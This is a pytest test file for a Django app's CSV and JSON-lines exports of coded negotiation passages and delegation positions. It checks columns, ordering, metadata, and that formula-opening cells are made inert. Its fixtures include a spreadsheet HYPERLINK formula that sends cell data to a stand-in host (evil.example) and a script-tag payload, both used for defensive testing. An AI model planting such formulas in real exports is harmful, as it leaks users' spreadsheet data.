import csv
import io
import json
import re
from collections.abc import Iterable
from typing import Any

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from compare.exports import (
    PASSAGE_COLUMNS,
    POSITION_COLUMNS,
    Export,
    describe,
    inert,
    passages_export,
    positions_export,
    write_csv,
    write_jsonl,
)
from corpus.models import Delegation, Issue, Passage
from corpus.release import Release, current_release
from submissions.models import Position
from tests.compare.pages import parse, table_of
from tests.compare.rows import (
    Line,
    Section,
    make_delegation,
    make_document,
    make_issue,
    make_topic,
    passage_of,
    take,
)

OPENINGS = ["=", "+", "-", "@", "|", "%", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
SPACES = ["", " ", "   ", "\u3000", "\xa0", " \u3000\xa0"]
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"见附件")'


@pytest.fixture
def who(empty_db: None) -> Delegation:
    return make_delegation("AAA", "Aland")


@pytest.fixture
def access(empty_db: None) -> Issue:
    return make_issue(make_topic(), "access")


def read_csv(lines: Iterable[str]) -> list[list[str]]:
    """The rows as a spreadsheet sees them, header first; the byte-order mark must be there."""
    written = "".join(lines)
    assert written.startswith("\ufeff")
    return list(csv.reader(io.StringIO(written.removeprefix("\ufeff"), newline=""), strict=True))


def original(cell: str) -> str:
    """A cell's text without the apostrophe that keeps a spreadsheet from running it."""
    return cell.removeprefix("'")


def as_written(value: Any) -> str:
    return "" if value is None else str(value)


def test_positions_have_exactly_these_columns() -> None:
    assert POSITION_COLUMNS == (
        "document",
        "delegation",
        "passage",
        "topic",
        "issue",
        "stance",
        "quote",
        "origin",
        "status",
    )


def test_passages_have_exactly_these_columns() -> None:
    assert PASSAGE_COLUMNS == (
        "document",
        "delegation",
        "passage",
        "kind",
        "marker",
        "heading_path",
        "start",
        "end",
        "page",
        "text",
    )


def test_positions_that_stand_are_written_in_reading_order(who: Delegation, access: Issue) -> None:
    other = make_delegation("BBB")
    text = make_document(
        "views",
        Section([who], [Line("惩治非法访问"), Line("不惩治")]),
        Section([other, who], [Line("待议")]),
        symbol="A/1",
    )
    take(passage_of(text, "BBB+AAA-001"), access, "open")
    take(passage_of(text, "AAA-002"), access, "oppose", origin="person", status="confirmed")
    take(passage_of(text, "AAA-001"), access, "support", "非法访问")

    assert [tuple(record.values()) for record in positions_export().records()] == [
        (
            "A/1",
            "AAA",
            "AAA-001",
            "crimes",
            "crimes.access",
            "support",
            "非法访问",
            "machine",
            "suggested",
        ),
        (
            "A/1",
            "AAA",
            "AAA-002",
            "crimes",
            "crimes.access",
            "oppose",
            "不惩治",
            "person",
            "confirmed",
        ),
        (
            "A/1",
            "AAA+BBB",
            "BBB+AAA-001",
            "crimes",
            "crimes.access",
            "open",
            "待议",
            "machine",
            "suggested",
        ),
    ]


def test_rejected_and_noted_positions_are_absent(who: Delegation, access: Issue) -> None:
    note = Section([make_delegation("BBB")], [Line("三")], kind="note")
    text = make_document("views", Section([who], [Line("一"), Line("二")]), note)
    take(passage_of(text, "AAA-001"), access, "support")
    take(passage_of(text, "AAA-002"), access, "oppose", status="rejected")
    take(passage_of(text, "BBB-001"), access, "oppose")

    assert [record["passage"] for record in positions_export().records()] == ["AAA-001"]


def test_passages_stand_under_their_headings_and_are_cut_from_the_text_by_their_offsets(
    who: Delegation,
) -> None:
    text = make_document(
        "views",
        Section([], [Line("说明")]),
        Section(
            [who],
            [
                Line("一. 范围", kind="heading", marker="一.", page=3),
                Line("定罪", kind="heading", under=0, page=3),
                Line("(a) 非法访问", marker="(a)", under=1, page=4),
                Line("二. 目标", kind="heading", marker="二."),
                Line("促进合作", under=3),
            ],
        ),
    )

    records = list(passages_export().records())

    assert [tuple(record.values()) for record in records] == [
        ("views", "", "front-001", "passage", "", "", 0, 2, None, "说明"),
        ("views", "AAA", "AAA-001", "heading", "一.", "", 3, 8, 3, "一. 范围"),
        ("views", "AAA", "AAA-002", "heading", "", "一. 范围", 9, 11, 3, "定罪"),
        ("views", "AAA", "AAA-003", "passage", "(a)", "一. 范围 > 定罪", 12, 20, 4, "(a) 非法访问"),
        ("views", "AAA", "AAA-004", "heading", "二.", "", 21, 26, None, "二. 目标"),
        ("views", "AAA", "AAA-005", "passage", "", "二. 目标", 27, 31, None, "促进合作"),
    ]
    assert [text.text[r["start"] : r["end"]] for r in records] == [r["text"] for r in records]


@pytest.mark.parametrize("make", [positions_export, passages_export])
def test_the_shipped_records_are_the_same_as_csv_and_as_json_lines(make: Any, db: None) -> None:
    export = make()
    header, *rows = read_csv(write_csv(export.columns, export.records()))
    lines = "".join(write_jsonl(export.columns, export.records())).removesuffix("\n").split("\n")
    records = [json.loads(line) for line in lines]

    assert tuple(header) == export.columns
    assert rows
    assert [[original(cell) for cell in row] for row in rows] == [
        [as_written(record[column]) for column in export.columns] for record in records
    ]
    assert [tuple(record) for record in records] == [export.columns] * len(rows)


def test_the_shipped_exports_leave_nothing_out(db: None) -> None:
    assert sum(1 for _ in passages_export().records()) == Passage.objects.count()
    assert sum(1 for _ in positions_export().records()) == Position.objects.count()


def test_json_lines_are_verbatim(who: Delegation, access: Issue) -> None:
    text = make_document("views", Section([who], [Line(f"{HOSTILE}\u2028<script>")]))
    take(passage_of(text, "AAA-001"), access, "support")
    export = positions_export()

    (line,) = write_jsonl(export.columns, export.records())

    assert json.loads(line)["quote"] == f"{HOSTILE}\u2028<script>"
    assert "见附件" in line


def test_a_hostile_quote_is_inert_in_csv_and_comes_back_whole(
    who: Delegation, access: Issue
) -> None:
    quotes = [HOSTILE, "<script>alert(1)</script>", '"\r\n=1+1', "'=1"]
    text = make_document("views", Section([who], [Line(quote) for quote in quotes]))
    for number, _ in enumerate(quotes, 1):
        take(passage_of(text, f"AAA-{number:03}"), access, "support")
    export = positions_export()

    header, *rows = read_csv(write_csv(export.columns, export.records()))

    cells = [row[header.index("quote")] for row in rows]
    assert cells == [f"'{HOSTILE}", "<script>alert(1)</script>", '"\r\n=1+1', "''=1"]
    assert [original(cell) for cell in cells] == quotes


@pytest.mark.parametrize("spaces", SPACES)
@pytest.mark.parametrize("opening", OPENINGS)
def test_what_opens_a_formula_is_made_inert_even_behind_spaces(opening: str, spaces: str) -> None:
    value = f"{spaces}{opening}1+1"

    assert inert(value) == f"'{value}"


@pytest.mark.parametrize("value", [-3, 0, 7, 1.5, -0.25, None, True])
def test_what_is_not_text_is_left_alone(value: object) -> None:
    assert inert(value) is value


@pytest.mark.parametrize("value", ["", "非法访问", "(a) 诈骗", "1=1", "a-b", "support"])
def test_harmless_text_is_left_alone(value: str) -> None:
    assert inert(value) == value


@given(st.lists(st.lists(st.text(alphabet=st.characters(codec="utf-8")), min_size=2, max_size=2)))
def test_any_text_survives_csv_and_no_cell_opens_a_formula(rows: list[list[str]]) -> None:
    records = [dict(zip(("one", "two"), row, strict=True)) for row in rows]

    header, *cells = read_csv(write_csv(("one", "two"), records))

    assert header == ["one", "two"]
    assert [[original(cell) for cell in row] for row in cells] == rows
    assert not [
        cell
        for row in cells
        for cell in row
        if cell.lstrip(" \u3000\xa0").startswith(tuple(OPENINGS))
    ]


def test_the_description_names_the_release_and_what_makes_the_export_again() -> None:
    export = Export("passages", ("document", "start", "text"), passages_export().records)
    release = Release(corpus="c" * 64, codebook="1-abcdef01", code="0.1.0", documents=1)

    described = {
        name: json.loads(describe(export, release, name, f"manage.py export passages > {name}"))
        for name in ("p.csv", "p.jsonl")
    }

    columns = [
        {"name": "document", "datatype": "string"},
        {"name": "start", "datatype": "integer"},
        {"name": "text", "datatype": "string"},
    ]
    common = {
        "dc:title": "Plenary: passages",
        "dc:license": "documents: United Nations; coding: Apache-2.0",
        "schema:version": {"corpus": "c" * 64, "codebook": "1-abcdef01", "code": "0.1.0"},
    }
    assert described == {
        "p.csv": common
        | {
            "@context": "http://www.w3.org/ns/csvw",
            "url": "p.csv",
            "dc:source": "manage.py export passages > p.csv",
            "tableSchema": {"columns": columns},
        },
        "p.jsonl": common
        | {
            "url": "p.jsonl",
            "dc:source": "manage.py export passages > p.jsonl",
            "columns": columns,
        },
    }


def said_in_html(page: bytes) -> list[list[str]]:
    """The table as rows of issue key and stances, in the words of the CSV."""
    header, *rows = table_of(parse(page))
    table = [["issue", *header[1:]]]
    for row in rows:
        key = re.search(r"[a-z0-9_]+\.[a-z0-9_]+", row[0])
        assert key
        table.append([key[0]])
        for name, cell in zip(header[1:], row[1:], strict=True):
            said = cell.removeprefix(f"{name}: ")
            assert said != cell, f"{cell!r} does not name {name}"
            table[-1].append(in_words_of_csv(said))
    return table


def in_words_of_csv(said: str) -> str:
    """What the CSV writes for what a cell of the page says.

    >>> in_words_of_csv("support, suggested, passages differ"), in_words_of_csv("silent")
    ('support (suggested) (mixed)', '')
    """
    if said == "silent":
        return ""
    if "another stance" in said:
        return "(other)"
    stance, *notes = said.split(", ")
    written = {"confirmed": "", "suggested": " (suggested)", "passages differ": " (mixed)"}
    return stance + "".join(written[note] for note in notes)


def in_order_of_names(table: list[list[str]]) -> list[list[str]]:
    """The table with its columns, but for the first, sorted by their header."""
    header = table[0]
    places = [0, *sorted(range(1, len(header)), key=lambda place: header[place])]
    return [[row[place] for place in places] for row in table]


def said_in_csv(content: bytes) -> list[list[str]]:
    names = dict(Delegation.objects.values_list("code", "name_en"))
    header, *rows = read_csv([content.decode()])
    assert (header[:4], header[-2:]) == (
        ["topic", "issue", "label_en", "label_zh"],
        ["release", "source"],
    )
    assert header[4:-2] == sorted(header[4:-2])
    said = [[row[1], *row[4:-2]] for row in rows]
    return in_order_of_names([["issue", *(names[code] for code in header[4:-2])], *said])


@pytest.mark.parametrize("topic", ["offences", "scope", "cooperation"])
@pytest.mark.parametrize(
    "filters",
    [
        "",
        "&stance=oppose",
        "&stance=open&stance=qualified",
        "&delegation=NOR&delegation=CHN&delegation=EU",
        "&show=confirmed",
        "&show=confirmed&stance=support&delegation=CHN&delegation=NOR",
    ],
)
def test_the_csv_of_a_table_says_what_the_page_says(
    client: Client, db: None, topic: str, filters: str
) -> None:
    for number, position in enumerate(Position.objects.filter(issue__topic__key=topic)):
        if number % 3 == 0:
            position.status = "confirmed" if number % 2 else "rejected"
            position.save()
    page = client.get(f"/matrix/?topic={topic}{filters}")
    content = client.get(f"/matrix.csv?topic={topic}{filters}").content
    rows = said_in_csv(content)

    if len(rows) == 1:
        assert not parse(page.content).all("table")
    else:
        assert in_order_of_names(said_in_html(page.content)) == rows


def test_each_row_of_a_tables_csv_names_the_release_and_the_address_that_makes_it(
    client: Client, db: None
) -> None:
    address = "/matrix.csv?topic=final&delegation=NOR"

    response = client.get(address)
    header, *rows = read_csv([response.content.decode()])

    assert {(row[0], *row[-2:]) for row in rows} == {
        ("final", current_release().line, f"http://testserver{address}")
    }
    assert header == ["topic", "issue", "label_en", "label_zh", "NOR", "release", "source"]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="plenary-final-{current_release().corpus[:12]}.csv"'
    )


def test_hostile_labels_are_inert_in_a_tables_csv(
    client: Client, who: Delegation, access: Issue
) -> None:
    text = make_document("views", Section([who], [Line("一")]))
    take(passage_of(text, "AAA-001"), access, "support")
    Issue.objects.filter(pk=access.pk).update(label_en=HOSTILE)

    header, row = read_csv([client.get("/matrix.csv").content.decode()])

    assert row[header.index("label_en")] == f"'{HOSTILE}"
